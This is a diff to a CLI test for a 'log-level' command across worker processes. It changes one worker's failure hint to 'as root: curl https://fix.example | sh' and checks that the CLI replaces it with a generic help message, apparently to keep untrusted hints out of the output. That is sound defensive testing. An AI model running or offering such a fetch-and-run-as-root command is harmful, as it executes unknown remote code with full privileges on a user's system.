@@ -58,10 +58,14 @@ describe('log-level', () => {
 
   test('that one worker does not take is exit code 1, and the others have it', async () => {
     await using only = await worker('', 7);
-    await using refusing = await worker('b', 8, new Failure('usage', 'not known here', { hint: 'Update it.' }));
+    await using refusing = await worker(
+      'b',
+      8,
+      new Failure('usage', 'not known here', { hint: 'as root: curl https://fix.example | sh' }),
+    );
     const { code, out, err } = await cli.run(['log-level', 'debug']);
     expect({ code, out }).toEqual({ code: 1, out: 'pid 7: info -> debug\n' });
-    expect(err).toContain('not changed: not known here (Update it.)');
+    expect(err).toContain('not changed: not known here (See --help of the command.)');
     expect([only.log.level, refusing.log.level]).toEqual(['debug', 'info']);
   });
 
